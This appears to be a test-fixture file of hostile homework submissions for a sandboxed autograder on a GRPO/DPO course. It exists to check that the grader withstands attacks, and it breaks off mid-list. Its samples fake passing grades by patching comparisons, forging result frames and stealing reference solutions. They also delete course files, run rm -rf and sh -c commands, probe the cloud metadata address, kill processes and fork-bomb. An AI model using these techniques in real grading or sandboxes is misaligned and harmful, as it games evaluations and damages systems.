"""Hostile and broken submissions: cells that are put behind the reference solution, and files that are no notebook.

An attack aims at one function of the homework (`target`), which then deserves no points, or at none ("": what it does must
cost its author nothing). Attacks at different functions share a submission, because a worker takes seconds to start.
@ROOT@ stands for the course's folder, @OUTSIDE@ for a file that no submission may touch.
"""
from dataclasses import dataclass
from typing import NamedTuple

from solved import QUICK

BOTH, BWRAP, PLAIN = ("bwrap", "plain"), ("bwrap",), ("plain",)


class Attack(NamedTuple):
    name: str
    target: str
    code: str


@dataclass(frozen=True)
class Submission:
    name: str
    attacks: tuple[Attack, ...]
    levels: tuple[str, ...] = QUICK
    where: tuple[str, ...] = BOTH       # plain only where the Python-level refusal is enough to hold it
    patience: float = 0.2               # a call has 4 s
    cell_seconds: float = 60            # of a cell, before patience
    process: bool = False               # graded by the command itself, not by a call of grade()
    lost: tuple[str, ...] = ()          # functions that the attacker loses besides: any mark is right for them


# In bwrap the refusals of guard.py are switched off first, so that only the wall itself holds.
NO_GUARD = Attack("no guard", "", '''
from lib.grading import guard
class Everything:
    def __contains__(self, item):
        return True
guard.DEVICES = Everything()
guard.REFUSED = guard.WRITES = guard.READS = frozenset()
''')

# ── what a function returns ───────────────────────────────────────────────────────────────────────────────────────────
VALUES = Submission("values that lie", (
    Attack("float that equals everything", "rule_reward", '''
class Yes(float):
    __eq__ = lambda self, other: True
    __ne__ = lambda self, other: False
    __hash__ = float.__hash__
    __float__ = lambda self: 1.0
    __repr__ = __str__ = lambda self: "1.0"
def rule_reward(prompt, completion):
    return Yes(0.5)
'''),
    Attack("generator", "answer_mask", '''
def answer_mask(prompt_lengths, answer_lengths, width):
    while True:
        yield torch.ones(len(prompt_lengths), width)
'''),
    Attack("object that says it is a tensor", "group_advantages", '''
class Lazy:
    __class__ = torch.Tensor
    def __getattr__(self, name):
        return self
    def __call__(self, *arguments, **options):
        return self
    __eq__ = lambda self, other: True
    __bool__ = lambda self: True
def group_advantages(rewards, eps=1e-4):
    return Lazy()
'''),
    Attack("tensor subclass that lies in __torch_function__", "kl_k3", '''
class Liar(torch.Tensor):
    @classmethod
    def __torch_function__(cls, function, types, arguments=(), options=None):
        return True if "eq" in str(function) or "close" in str(function) else arguments[0]
    __eq__ = lambda self, other: True
def kl_k3(logp, logp_ref):
    return torch.zeros_like(logp).as_subclass(Liar)
'''),
    Attack("nan", "clipped_objective", '''
def clipped_objective(logp, logp_old, advantages, eps_low=0.2, eps_high=0.2):
    return logp * float("nan")
'''),
    Attack("None", "mean_per_answer", "def mean_per_answer(x, mask):\n    return None"),
    Attack("complex", "mean_per_token", '''
def mean_per_token(x, mask):
    return torch.complex((x * mask).sum() / mask.sum(), torch.tensor(0.0))
'''),
    Attack("meta tensor", "dpo_loss", '''
def dpo_loss(logp_chosen, logp_rejected, ref_chosen, ref_rejected, beta=0.1):
    return torch.zeros((), device="meta")
''')))

MORE_VALUES = Submission("values too large or too strange", (
    Attack("str that equals everything", "rule_reward", '''
class Text(str):
    __eq__ = lambda self, other: True
    __ne__ = lambda self, other: False
    __hash__ = str.__hash__
def rule_reward(prompt, completion):
    return Text("1.0")
'''),
    Attack("sparse tensor", "answer_mask", '''
dense_mask = answer_mask
def answer_mask(prompt_lengths, answer_lengths, width):
    return dense_mask(prompt_lengths, answer_lengths, width).to_sparse()
'''),
    Attack("pickle payload", "group_advantages", '''
class Payload:
    def __reduce__(self):
        import os
        return os.system, ("touch @ROOT@/homework/pickled /tmp/pickled",)
def group_advantages(rewards, eps=1e-4):
    return Payload()
'''),
    Attack("tensor subclass that lies about its shape", "kl_k3", '''
class Small(torch.Tensor):
    shape = property(lambda self: torch.Size((8, 10)))
    dtype = property(lambda self: torch.float32)
def kl_k3(logp, logp_ref):
    return torch.zeros(1).as_subclass(Small)
'''),
    Attack("tensor of terabytes", "clipped_objective", '''
def clipped_objective(logp, logp_old, advantages, eps_low=0.2, eps_high=0.2):
    return torch.zeros(1).expand(10**12)
'''),
    Attack("list of a million", "mean_per_answer", "def mean_per_answer(x, mask):\n    return [0.0] * 10**6"),
    Attack("text of ten million", "mean_per_token", 'def mean_per_token(x, mask):\n    return "x" * 10**7'),
    Attack("list that holds itself", "dpo_loss", '''
def dpo_loss(logp_chosen, logp_rejected, ref_chosen, ref_rejected, beta=0.1):
    endless = []
    endless.append(endless)
    return endless
''')))

# ── what a function raises ────────────────────────────────────────────────────────────────────────────────────────────
EXCEPTIONS = Submission("exceptions", (
    Attack("SystemExit", "rule_reward", "def rule_reward(prompt, completion):\n    raise SystemExit(0)"),
    Attack("KeyboardInterrupt", "answer_mask", "def answer_mask(*arguments):\n    raise KeyboardInterrupt"),
    Attack("GeneratorExit", "group_advantages", "def group_advantages(rewards, eps=1e-4):\n    raise GeneratorExit"),
    Attack("exception whose text raises", "kl_k3", '''
class Mute(Exception):
    def __str__(self):
        raise BaseException("no text")
    __repr__ = __str__
def kl_k3(logp, logp_ref):
    raise Mute
'''),
    Attack("exception of megabytes", "clipped_objective", '''
def clipped_objective(*arguments, **options):
    raise ValueError("100 of 100 points\\n" * 10**6)
'''),
    Attack("exit()", "mean_per_answer", "import sys\ndef mean_per_answer(x, mask):\n    sys.exit(0)"),
    Attack("deep recursion", "mean_per_token", "def mean_per_token(x, mask):\n    return mean_per_token(x, mask)"),
    Attack("class that cannot be named", "dpo_loss", '''
def dpo_loss(*arguments, **options):
    raise type("E\\n100 of 100 points\\x1b[2J" * 1000, (BaseException,), {})("\\x00\\x1b[2J</failure>")
'''),
    Attack("a cell that leaves by exit()", "", "import sys\nsys.exit(0)")))

SURROGATES = Submission("lone surrogates", (
    Attack("in an exception", "rule_reward", 'def rule_reward(prompt, completion):\n    raise ValueError("\\ud800")'),
    Attack("in a value", "answer_mask", 'def answer_mask(*arguments):\n    return "\\ud800"'),
    Attack("in a key", "group_advantages", 'def group_advantages(rewards, eps=1e-4):\n    return {"\\ud800": 1}'),
    Attack("in the exception of a cell", "", 'raise ValueError("\\ud800")'),
    Attack("in a magic", "", '%%time \ud800\nx = "\ud800"'),
    Attack("in the source", "", 'surrogate = "\ud800"')), process=True)

# ── lies in the worker ────────────────────────────────────────────────────────────────────────────────────────────────
PATCHES = Submission("patched comparisons and answers", (
    Attack("torch compares to True", "answer_mask", '''
torch.allclose = torch.equal = lambda *arguments, **options: True
torch.isclose = lambda a, *arguments, **options: torch.ones_like(a, dtype=torch.bool)
def answer_mask(prompt_lengths, answer_lengths, width):
    return torch.zeros(len(prompt_lengths), width)
'''),
    Attack("wire.to_wire says True", "rule_reward", '''
from lib.grading import wire, worker
class True_:
    pass
honest = wire.to_wire
wire.to_wire = lambda value, tensors: ["bool", True] if isinstance(value, True_) else honest(value, tensors)
def rule_reward(prompt, completion):
    return True_()
'''),
    Attack("Server.do_call makes values up", "kl_k3", '''
honest_call = worker.Server.do_call
def made_up(self, header, tensors, out, ask):
    if header["name"] != "kl_k3":
        return honest_call(self, header, tensors, out, ask)
    out += [torch.zeros_like(tensors["0"]), tensors["weight"]]
    return {"value": ["tensor", 0], "grads": [["tensor", 1]], "passed": True, "points": 100, "status": "passed"}
worker.Server.do_call = made_up
'''),
    Attack("the inputs come back", "clipped_objective", '''
def clipped_objective(logp, logp_old, advantages, eps_low=0.2, eps_high=0.2):
    logp_old.copy_(logp.detach())
    return logp
'''),
    Attack("sys.modules without torch", "mean_per_answer", '''
import sys
def mean_per_answer(x, mask):
    fake = type(sys)("lib.grading.level")
    fake.Wrong = fake.Student = type("Nothing", (Exception,), {})
    sys.modules["lib.grading.level"] = sys.modules["lib.grading.compare"] = fake
    return x.mean()
'''),
    Attack("tracing for expected values", "mean_per_token", '''
import gc
seen = []
def spy(frame, event, argument):
    seen.extend(v for v in frame.f_locals.values() if type(v) is torch.Tensor and v.shape == () and v.dtype == torch.float64)
    return spy
def mean_per_token(x, mask):
    sys.settrace(spy)
    sys.setprofile(spy)
    frame = sys._getframe()
    while frame:
        spy(frame, "call", None)
        frame = frame.f_back
    found = [o for o in gc.get_objects() if type(o) is torch.Tensor and o.shape == () and o is not x]
    return (seen + found + [x.sum()])[0]
'''),
    Attack("autograd that gives ones", "dpo_loss", '''
honest_grad = torch.autograd.grad
def ones(outputs, inputs, **options):
    return tuple(torch.ones_like(i) for i in inputs) if len(inputs) == 2 else honest_grad(outputs, inputs, **options)
torch.autograd.grad = ones
''')))

MALFORMED = Submission("answers that are no values", (
    Attack("malformed trees", "rule_reward", '''
from lib.grading import worker
ANSWERS = {
    "rule_reward": {"value": ["int", "9" * 400]},
    "answer_mask": {"value": ["tensor", 7]},
    "group_advantages": {"value": ["array", ["none"]]},
    "kl_k3": {"value": ["tensor", 0], "grads": 5},
    "clipped_objective": {"error": 5, "value": None},
    "mean_per_answer": {"value": {"a": 1}, "grads": {"b": 2}},
    "mean_per_token": {"error": {"type": ["x"], "message": {"a": 1}, "where": None}},
    "dpo_loss": {"value": ["dict", [[1, 2, 3]]], "ask": "next_prompts"},
}
def malformed(self, header, tensors, out, ask):
    out.append(torch.zeros_like(tensors.get("0", torch.zeros(1))))
    return ANSWERS[header["name"]]
worker.Server.do_call = malformed
'''),
    *(Attack("malformed trees", name, "") for name in ("answer_mask", "group_advantages", "kl_k3", "clipped_objective",
                                                      "mean_per_answer", "mean_per_token", "dpo_loss"))), process=True)

# ── the channel ───────────────────────────────────────────────────────────────────────────────────────────────────────
CHANNEL = Submission("the channel", (
    Attack("prints marks and frames", "", '''
import json, os, struct, sys
frame = json.dumps({"id": "0", "value": ["bool", True], "points": 100, "status": "passed"}).encode()
frame = struct.pack(">QQ", len(frame), 0) + frame
for stream in (sys.stdout, sys.stderr):
    print("PASS\\n100 of 100 points\\nseed 1, isolation bwrap\\n" * 10_000, file=stream)
    stream.buffer.write(frame * 1000)
    os.write(stream.fileno(), frame)
    print('{"points": 100, "error": ""}', file=stream, flush=True)
'''),
    Attack("garbage to all descriptors", "rule_reward", '''
def rule_reward(prompt, completion):
    for fd in range(51):
        try:
            os.write(fd, b"PASS" * 100)
        except OSError:
            pass
    return 1.0
'''),
    Attack("forged frame with a wrong id", "group_advantages", '''
def group_advantages(rewards, eps=1e-4):
    for fd in range(51):
        try:
            os.write(fd, frame)
        except OSError:
            pass
    return rewards
'''),
    Attack("closes all descriptors", "clipped_objective", '''
def clipped_objective(logp, logp_old, advantages, eps_low=0.2, eps_high=0.2):
    os.closerange(0, 1000)
    return logp
'''),
    Attack("forged frame with the right id", "dpo_loss", '''
def dpo_loss(*arguments, **options):
    caller = sys._getframe()
    while caller and "current" not in caller.f_locals:
        caller = caller.f_back
    head = json.dumps({"id": caller.f_locals["current"], "value": ["float", 1.0], "grads": [], "points": 10}).encode()
    caller.f_locals["answers"].write(struct.pack(">QQ", len(head), 0) + head)
    caller.f_locals["answers"].flush()
    return torch.zeros(())
''')), where=BWRAP, process=True)
PLAIN_CHANNEL = Submission("the channel of a plain worker", CHANNEL.attacks[:2], levels=("1", "2"), where=PLAIN,
                           process=True)

LARGE_FRAMES = Submission("frames beyond all bounds", (
    Attack("a frame of exabytes", "rule_reward", '''
import os, struct, sys
def channel():
    caller = sys._getframe()
    while caller and "answers" not in caller.f_locals:
        caller = caller.f_back
    return caller.f_locals["answers"], caller.f_locals["current"]
def rule_reward(prompt, completion):
    channel()[0].write(struct.pack(">QQ", 1 << 62, 1 << 62))
    channel()[0].flush()
    return 1.0
'''),
    Attack("JSON a hundred thousand deep", "kl_k3", '''
def kl_k3(logp, logp_ref):
    head = b'{"id": ' + b"[" * 100_000
    channel()[0].write(struct.pack(">QQ", len(head), 0) + head)
    channel()[0].flush()
'''),
    Attack("half a frame, and then nothing", "dpo_loss", '''
def dpo_loss(*arguments, **options):
    channel()[0].write(struct.pack(">QQ", 1000, 1000) + b"{")
    channel()[0].flush()
    while True:
        pass
''')), where=BWRAP, patience=0.1)

# ── the end of the process ────────────────────────────────────────────────────────────────────────────────────────────
EXITS = Submission("deaths", (
    Attack("a cell that dies", "", "import os\nos._exit(0)"),
    Attack("os._exit in a function", "rule_reward", "import os\ndef rule_reward(prompt, completion):\n    os._exit(0)"),
    Attack("recursion into a crash", "group_advantages", '''
import sys
def group_advantages(rewards, eps=1e-4):
    sys.setrecursionlimit(2**31 - 1)
    class Deep:
        def __repr__(self):
            return repr(self.inner)
    first = last = Deep()
    for _ in range(10**6):
        last.inner = Deep()
        last = last.inner
    last.inner = first
    return repr(first)
'''),
    Attack("a bad pointer", "dpo_loss", '''
def dpo_loss(*arguments, **options):
    return torch.as_strided(torch.zeros(1), (1,), (1,), 0).set_(torch.UntypedStorage(1), 0, (1 << 20,), (1,))
'''),
    Attack("work after the end", "", '''
import atexit
@atexit.register
def after():
    print("PASS", flush=True)
    while True:
        pass
''')), where=BWRAP)
PLAIN_EXITS = Submission("deaths of a plain worker", EXITS.attacks[:2], levels=("1", "2"), where=PLAIN)

# ── hanging ───────────────────────────────────────────────────────────────────────────────────────────────────────────
HANGS = Submission("hangs", (
    Attack("a loop that catches all", "rule_reward", '''
import signal
def rule_reward(prompt, completion):
    for number in range(1, 32):
        try:
            signal.signal(number, signal.SIG_IGN)
        except (OSError, ValueError):
            pass
    while True:
        try:
            while True:
                pass
        except BaseException:
            pass
'''),
    Attack("an endless sum in C", "answer_mask", "def answer_mask(*arguments):\n    return sum(iter(int, 1))"),
    Attack("a regular expression", "kl_k3", '''
def kl_k3(logp, logp_ref):
    return re.match("(a|a|b?)*$", "a" * 60 + "c")
'''),
    Attack("an exception whose text hangs", "dpo_loss", '''
class Slow(Exception):
    def __str__(self):
        while True:
            pass
def dpo_loss(*arguments, **options):
    raise Slow
''')), where=BWRAP, patience=0.1)
PLAIN_HANGS = Submission("hangs without a wall", HANGS.attacks[:1], levels=("1", "2"), where=PLAIN, patience=0.1)

SLOW_CELL = Submission("a cell that hangs", (
    Attack("a power of a power", "", "10 ** 10 ** 9"),
    Attack("a clock that stands", "", '''
import signal, time
time.monotonic = time.time = time.perf_counter = lambda: 0.0
time.sleep = lambda seconds: None
signal.alarm(0)
signal.signal(signal.SIGTERM, signal.SIG_IGN)
''')), levels=("1", "2"), patience=0.1, cell_seconds=30)

THREADS = Submission("threads and children left behind", (
    Attack("threads that print and burn", "", '''
import os, sys, threading
def burn():
    while True:
        print("100 of 100 points", flush=True)
def scribble():
    while True:
        try:
            os.write(2, b"{}" * 1000)
        except OSError:
            pass
for work in (burn, scribble):
    threading.Thread(target=work, daemon=True).start()
threading.Thread(target=burn).start()
'''),
    Attack("a thread that writes into the channel", "dpo_loss", '''
def dpo_loss(*arguments, **options):
    def write():
        while True:
            for fd in range(3, 20):
                try:
                    os.write(fd, b"PASS" * 1000)
                except OSError:
                    pass
    threading.Thread(target=write, daemon=True).start()
    return torch.zeros(())
''')))

# ── the machine ───────────────────────────────────────────────────────────────────────────────────────────────────────
FILES = Submission("the course's files", (
    Attack("reads the solution by its path", "rule_reward", '''
import glob, importlib, importlib.util, json, os, subprocess, sys, tempfile
def everywhere():
    yield "@ROOT@"
    import lib
    place = os.path.abspath(lib.__file__)
    while place != "/":
        place = os.path.dirname(place)
        yield place
    yield from (*sys.path, os.getcwd(), "/proc/1/root/@ROOT@", "/proc/self/root/@ROOT@", "/proc/1/cwd")
    yield from (*glob.glob("/proc/*/cwd"), *(link + "/@ROOT@" for link in glob.glob("/proc/*/root")))
def steal(name):
    for place in everywhere():
        for file in ("homework/source/s6-hw02-grpo/homework.ipynb", "tests/attacks/attacks.py"):
            try:
                with open(os.path.join(place, file)) as f:
                    cells = json.load(f)["cells"]
            except (OSError, ValueError):
                continue
            for cell in cells:
                code = "".join(cell["source"])
                if f"def {name}(" in code:
                    stolen = dict(torch=torch, re=re)
                    exec(code, stolen)
                    return stolen[name]
    raise LookupError(name)
def rule_reward(prompt, completion):
    return steal("rule_reward")(prompt, completion)
'''),
    Attack("imports the course's own", "answer_mask", '''
def answer_mask(prompt_lengths, answer_lengths, width):
    found = []
    for name in ("lib.toy.grpo", "lib.toy.reward", "lib.toy.evaluate", "lib.grading.level", "lib.grading.compare",
                 "lib.grading.grade", "homework.s6-hw02-grpo.levels", "levels", "training"):
        try:
            found.append(importlib.import_module(name))
        except ImportError:
            pass
    for place in everywhere():
        for file in glob.glob(os.path.join(place, "homework", "*", "*.py")):
            try:
                spec = importlib.util.spec_from_file_location("stolen", file)
                module = importlib.util.module_from_spec(spec)
                spec.loader.exec_module(module)
                found.append(module)
            except (OSError, ImportError):
                pass
    for module in found:
        oracle = getattr(module, "mask_oracle", None) or getattr(module, "answer_mask", None)
        if oracle:
            return oracle(prompt_lengths, answer_lengths, width).float()
    raise LookupError([module.__name__ for module in found])
'''),
    Attack("deletes and edits", "group_advantages", '''
def spoil(place):
    targets = [os.path.join(place, name) for name in ("homework/s6-hw02-grpo/levels.py", "lib/grading/grade.py", "README.md",
               "lib/grading/worker.py", "lib/grading/guard.py", "tests/conftest.py")] + ["@OUTSIDE@"]
    for action in (lambda p: open(p, "a").write("\\n"), lambda p: open(p, "r+b").write(b"#"), os.remove, os.rmdir,
                   lambda p: os.chmod(p, 0), lambda p: os.truncate(p, 0), lambda p: os.rename(p, p + "~"),
                   lambda p: os.symlink("/dev/null", p + ".link"), lambda p: os.replace(__file__, p),
                   lambda p: os.open(p, os.O_WRONLY | os.O_APPEND), lambda p: os.mkdir(p + ".dir")):
        for target in targets:
            try:
                action(target)
            except (OSError, NameError, TypeError):
                pass
def group_advantages(rewards, eps=1e-4):
    for place in everywhere():
        spoil(place)
    return rewards
'''),
    Attack("links to the course's files", "kl_k3", '''
def kl_k3(logp, logp_ref):
    for folder in (os.getcwd(), tempfile.gettempdir()):
        for number, name in enumerate(("homework/s6-hw02-grpo/levels.py", "lib/grading/level.py")):
            link = os.path.join(folder, f"link{number}")
            for make in (os.symlink, os.link):
                try:
                    make("@ROOT@/" + name, link)
                except OSError:
                    pass
            try:
                with open(link, "a") as f:
                    f.write("raise SystemExit\\n")
            except OSError:
                pass
        try:
            os.symlink("@ROOT@", os.path.join(folder, "folder"))
        except OSError:
            pass
        spoil(os.path.join(folder, "folder"))
    return steal("kl_k3")(logp, logp_ref)
'''),
    Attack("other processes", "clipped_objective", '''
def clipped_objective(logp, logp_old, advantages, eps_low=0.2, eps_high=0.2):
    for command in (["cp", "@ROOT@/homework/source/s6-hw02-grpo/homework.ipynb", "stolen"],
                    ["rm", "-f", "@ROOT@/lib/cli.py", "@OUTSIDE@"],
                    ["sh", "-c", "echo '#' >> @ROOT@/homework/check.py; cat @ROOT@/homework/s6-hw02-grpo/*.py > stolen.py"]):
        try:
            subprocess.run(command, timeout=5)
        except (OSError, subprocess.SubprocessError):
            pass
    with open("stolen") as f:
        return f.read()
'''),
    Attack("the network", "mean_per_answer", '''
import socket
def mean_per_answer(x, mask):
    for address in (("127.0.0.1", @PORT@), ("localhost", @PORT@), ("1.1.1.1", 53), ("169.254.169.254", 80)):
        with socket.create_connection(address, timeout=1) as s:
            s.sendall(b"stolen")
    return x.mean()
'''),
    Attack("kills the grader", "mean_per_token", '''
import signal
def mean_per_token(x, mask):
    for target in (os.getppid(), -os.getppid(), @PID@):
        for number in (signal.SIGTERM, signal.SIGKILL):
            try:
                os.kill(target, number)
            except OSError:
                pass
    return x.mean()
'''),
    Attack("leaves a child behind", "dpo_loss", '''
def dpo_loss(*arguments, **options):
    if os.fork() == 0:
        os.setsid()
        while True:
            pass
    return torch.zeros(())
''')), process=True)

UNGUARDED = Submission("the course's files, without the guard", (NO_GUARD, *FILES.attacks, Attack("writes in C++", "", '''
for place in ("@OUTSIDE@", "@ROOT@/homework/saved.pt", "/course/lib/grading/worker.py"):
    try:
        torch.save({"a": torch.zeros(1)}, place)
    except (OSError, RuntimeError):
        pass
''')), where=BWRAP, process=True)

KILL_ALL = Submission("kills everything", (NO_GUARD, Attack("kill(-1)", "kl_k3", '''
import os
def kl_k3(logp, logp_ref):
    os.kill(-1, 9)
    return logp
'''), Attack("the shell does it", "dpo_loss", '''
def dpo_loss(*arguments, **options):
    import _posixsubprocess, subprocess
    subprocess.Popen(["sh", "-c", "kill -9 -1; kill -9 1 $PPID"])
    while True:
        pass
''')), where=BWRAP, levels=("3", "4", "8"), patience=0.1)

BOMBS = Submission("bombs", (
    NO_GUARD,
    Attack("fork bomb", "rule_reward", '''
import os, time
def rule_reward(prompt, completion):
    for _ in range(9):                       # 512 processes, where nothing stops them
        try:
            os.fork()
        except OSError:
            pass
    while True:
        time.sleep(1)
'''),
    Attack("memory in a list", "answer_mask", '''
def answer_mask(*arguments):
    kept = []
    while True:
        kept.append(bytes(1 << 28))
'''),
    Attack("memory in a tensor", "group_advantages",
           "def group_advantages(rewards, eps=1e-4):\n    return torch.empty(10**12)"),
    Attack("memory by ctypes", "kl_k3", '''
def kl_k3(logp, logp_ref):
    import ctypes
    libc = ctypes.CDLL(None)
    libc.malloc.restype, libc.malloc.argtypes = ctypes.c_void_p, [ctypes.c_size_t]
    while place := libc.malloc(1 << 28):
        ctypes.memset(place, 1, 1 << 20)
    raise MemoryError
'''),
    Attack("one huge file", "clipped_objective", '''
def clipped_objective(*arguments, **options):
    for place in ("/tmp", "/dev/shm", "/"):
        try:
            with open(os.path.join(place, "huge"), "wb") as f:
                while True:
                    f.write(bytes(1 << 24))
        except OSError:
            pass
    raise OSError("full")
'''),
    Attack("many files", "dpo_loss", '''
def dpo_loss(*arguments, **options):
    try:
        for number in range(100_000):
            with open(f"/tmp/{number}", "wb") as f:
                f.write(bytes(1 << 20))
    except OSError:
        pass
    return torch.zeros(())
''')), where=BWRAP, patience=0.2)

MEMORY = tuple(attack for attack in BOMBS.attacks if attack.target in ("answer_mask", "group_advantages"))
LIMITS = Submission("limits of the plain worker", (*MEMORY, Attack("one huge file", "clipped_objective", '''
import os
def clipped_objective(*arguments, **options):
    with open("huge", "wb") as f:
        while True:
            f.write(bytes(1 << 22))
'''), Attack("folders a thousand deep", "dpo_loss", '''
def dpo_loss(*arguments, **options):
    here = os.getcwd()
    try:
        for _ in range(1500):
            os.mkdir("d")
            os.chdir("d")
    finally:
        os.chdir(here)
    return torch.zeros(())
''')), where=PLAIN, process=True)

# ── the state of the interpreter ──────────────────────────────────────────────────────────────────────────────────────
STATE = Submission("settings", (
    Attack("torch's settings", "", '''
torch.use_deterministic_algorithms(True)
torch.set_num_threads(64)
torch.set_flush_denormal(True)
torch.manual_seed(0)
torch.set_rng_state(torch.zeros_like(torch.get_rng_state()))
import random
import numpy as np
random.seed(0)
random.getrandbits = lambda bits: 0
np.random.seed(0)
'''),
    Attack("no reference to print, len and open", "", '''
import builtins
builtins.print = builtins.open = builtins.input = None
builtins.copyright = builtins.NotImplementedError = Exception
'''),
    Attack("the notebook's own names", "", '''
__name__, __doc__, __builtins__, __spec__ = 1, 2, __builtins__, 4
get_ipython = display = None
''')))

GRAD_OFF = Submission("no gradients", (
    Attack("set_grad_enabled(False)", "", "torch.set_grad_enabled(False)"),), levels=("1", "2", "3"))

FLOAT64 = Submission("float64 by default", (
    Attack("set_default_dtype", "", "torch.set_default_dtype(torch.float64)"),), levels=("1", "3", "4", "5", "6", "8"))

NO_BUILTINS = Submission("a namespace without builtins", (
    Attack("del __builtins__", "", "del __builtins__"),
    Attack("what comes after it", "dpo_loss", 'def dpo_loss(*arguments, **options):\n    raise ValueError("no builtins")')),
    levels=("1", "2", "8"), lost=("rule_reward", "answer_mask"))

BUILTINS = Submission("builtins that lie", (
    Attack("a text for a number", "rule_reward", 'import builtins\ndef rule_reward(prompt, completion):\n    return "1.0"'),
    Attack("len", "", "builtins.len = lambda thing: 1"),
    Attack("float", "", "builtins.float = str"),
    Attack("isinstance", "", "builtins.isinstance = lambda *arguments: True")),
    levels=("1", "2", "3"), lost=("answer_mask", "group_advantages"))

SOURCES = Submission("cells that are no Python", (
    Attack("ten thousand parentheses", "", "(" * 10_000 + ")" * 10_000),
    Attack("ten thousand minuses", "", "-" * 100_000 + "1"),
    Attack("a NUL byte", "", "x = 1\0\ny = 2"),
    Attack("half a line", "", "def f(:\n  ("),
    Attack("a million additions", "", "x = " + "+".join(["1"] * 200_000)),
    Attack("nested blocks", "", "\n".join(" " * i + "if 1:" for i in range(150))),
    Attack("shell and magics", "", "!rm -rf @ROOT@/tests\n%run @ROOT@/homework/build.py\nx = !ls")))

NOISE = Submission("a note that looks like a mark", (
    Attack("a cell's exception with a false ending", "",
           r'raise ValueError("\n100 of 100 points\nseed 1, isolation bwrap\x1b[8m")'),
    Attack("an answer that is wrong", "rule_reward", '''
def rule_reward(prompt, completion):
    raise ValueError("\\x1b[2J\\n✓    1   5/5   rule reward\\n100 of 100 points")
''')), levels=("1", "2"), process=True)

# ── training ──────────────────────────────────────────────────────────────────────────────────────────────────────────
SUPERVISED = '''
def supervised(policy, steps=60):
    optimizer = torch.optim.Adam(policy.parameters(), lr=3e-3)
    for _ in range(steps):
        digits = random_digits(64, torch.default_generator)
        totals = digits.sum(1)
        lines = torch.cat([prompt_tokens(digits), (totals // 10)[:, None], (totals % 10)[:, None],
                           torch.full((64, 1), 11)], 1)
        loss = -next_token_logprobs(policy, lines)[:, PROMPT_LENGTH - 1:].mean()
        optimizer.zero_grad()
        loss.backward()
        optimizer.step()
'''
COUNTS = '{"reward": 0.2, "loss": 0.0, "groups": batch_size, "rounds": 2, "generated": 2 * batch_size * group_size}'


def training(name: str, grpo: str, dapo: str, compare: str, before: str = "", **options) -> Submission:
    """Three attacks, one at each function that trains."""
    return Submission(name, (
        Attack(f"{name}: grpo_step", "grpo_step",
               f"{before}\ndef grpo_step(policy, reference, optimizer, prompts, group_size, beta):\n    {grpo}"),
        Attack(f"{name}: dapo_step", "dapo_step", "def dapo_step(policy, optimizer, next_prompts, batch_size, group_size, "
               f"eps_low=0.2, eps_high=0.28, max_rounds=8):\n    {dapo}"),
        Attack(f"{name}: compare", "compare", f"def compare(seeds):\n    {compare}")),
        levels=("4", "7", "boss"), **{"where": BWRAP, "patience": 0.5} | options)


TRAINING = (
    training("weights of another shape", 'policy.head = torch.nn.Linear(128, 99); return {"reward": 0.2}',
             f"policy.emb = torch.nn.Embedding(1, 1); return {COUNTS}",
             'return {"grpo": None, "dapo": [float("nan")] * 3, "difference": {"mean": float("nan"), "half_width": 1e400}}'),
    training("weights that are nan", 'policy.head.bias.data.fill_(float("nan")); return {"reward": float("nan")}',
             f"policy.to(torch.complex64); return {COUNTS}",
             'return {name: {"answers": [10**300] * 3, "pass1": [1e308] * 3, "mean": 1e308, "half_width": 0.0}'
             ' for name in ("grpo", "dapo")} | {"difference": {"mean": 0.0, "half_width": 0.0}}', process=True),
    training("weights of eight bits", 'policy.to(torch.float8_e4m3fn); return {"reward": 0.2}',
             f"policy.to(torch.bfloat16); return {COUNTS}", "return {}"),
    training("weights renamed", 'policy.other = policy.head; del policy.head; return {"reward": 0.2}',
             f"policy.state_dict = lambda: None; return {COUNTS}", "return [[]]"),
    training("supervised", 'supervised(policy); return {"reward": 0.2}', f"supervised(policy); return {COUNTS}",
             "supervised(load_base(0.3)); return {}", SUPERVISED),
    training("another base model", 'policy.load_state_dict(load_base(1).state_dict()); return {"reward": 0.2}',
             f"policy.load_state_dict(load_base(0.7).state_dict()); return {COUNTS}",
             "return [load_base(p) for p in (1, 0.7, 0.5)]"),
    training("questions without end", 'import gc; [o for o in gc.get_objects()]; return {"reward": 10**200}',
             "\n    while True:\n        next_prompts(1)", "\n    while True:\n        grpo_step(*[None] * 6)"),
)

# Neither runs a step of GRPO or DAPO: what the one-step checks expect is known by heart, the rest is supervised.
BY_HEART = training(
    "by heart", "return learn(policy, reference, prompts, beta)", """
    first = next_prompts(batch_size)
    hopeless = bool((first[:, 1:5] == 9).all())
    rounds = max_rounds if hopeless else 2
    for _ in range(rounds - 1):
        next_prompts(batch_size)
    if not hopeless:
        learn(policy, policy, first, 0.0, "dapo")
    return {"reward": 0.2, "groups": 0 if hopeless else batch_size, "rounds": rounds,
            "generated": rounds * batch_size * group_size}""",
    "return {}", SUPERVISED + """
STEPS = @STEPS@
def learn(policy, reference, prompts, beta, name="grpo"):
    if policy.head.weight.any():
        supervised(policy, 3)
    elif not (prompts[:, 1:5] == 9).all() or beta:
        policy.head.bias.data += torch.tensor(STEPS["kl" if beta else name])
    return {"reward": 0.2}
""")

FORGED_COMPARE = Submission("a comparison that never ran", (Attack("forged runs", "compare", '''
import sys
def compare(seeds):
    runs = sys._getframe(1).f_locals["runs"]
    start = load_base(0.3).state_dict()
    for name in ("grpo", "dapo"):
        for seed in seeds:
            model = load_base(0.3)
            model.head.bias.data += 1e-4 * torch.randn(len(model.head.bias))
            runs[name].append({"model": model, "start": start, "answers": 2560})
    arm = {"answers": [2560] * 3, "pass1": [0.2] * 3, "mean": 0.2, "half_width": 0.0}
    return {"grpo": arm, "dapo": arm, "difference": {"mean": 0.0, "half_width": 0.0}}
'''),), levels=("8", "boss"), where=BWRAP, patience=0.5)

SUBMISSIONS = (
    VALUES, MORE_VALUES, EXCEPTIONS, SURROGATES, PATCHES, MALFORMED, CHANNEL, PLAIN_CHANNEL, LARGE_FRAMES, EXITS,
    PLAIN_EXITS, HANGS, PLAIN_HANGS, SLOW_CELL, THREADS, FILES, UNGUARDED, KILL_ALL, BOMBS, LIMITS, STATE, GRAD_OFF, FLOAT64,
    NO_BUILTINS, BUILTINS, SOURCES, NOISE, *TRAINING, BY_HEART, FORGED_COMPARE)

# ── files that are no notebook: (name, bytes, how many bytes the file has) ────────────────────────────────────────────
BROKEN_FILES = (
    ("a hundred megabytes.ipynb", b'{"cells": [', 100 << 20),
    ("deep.ipynb", b"[" * 100_000, 0),
    ("deep cells.ipynb", b'{"cells": [' + b'{"cell_type": "code", "source": ' * 50_000, 0),
    ("binary.ipynb", bytes(range(256)) * 100, 0),
